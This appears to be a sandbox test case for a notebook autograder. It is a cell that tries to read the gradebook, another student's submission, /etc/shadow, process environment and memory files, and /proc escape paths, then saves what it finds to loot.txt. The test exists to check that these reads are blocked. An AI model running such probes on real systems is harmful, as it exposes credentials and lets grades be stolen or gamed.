"""The cell reads the gradebook, the source, another hand-in, and all that lies around, and prints it.

scores: test_double=2 test_total=3 test_apply=2
evidence: /course/gradebook.db (blocked or absent)
needs: bubblewrap
"""
# %% + after double
import glob
import os
from pathlib import Path

paths = ["@GRADEBOOK@", "@SOURCE@", "@OTHER@", "/etc/shadow", "/proc/1/environ", "/proc/1/mem"]
paths += glob.glob("@COURSE@/**/*", recursive=True) + glob.glob("../**/*.ipynb", recursive=True)
paths += [f"/proc/{pid}/root@GRADEBOOK@" for pid in range(1, 30)]
paths += [f"/proc/{pid}/cwd/../course/gradebook.db" for pid in range(1, 30)]
for path in paths:
    try:
        found = Path(path).read_bytes()[:2000]
        print(path, found)
        Path("loot.txt").open("ab").write(found)
    except OSError:
        pass
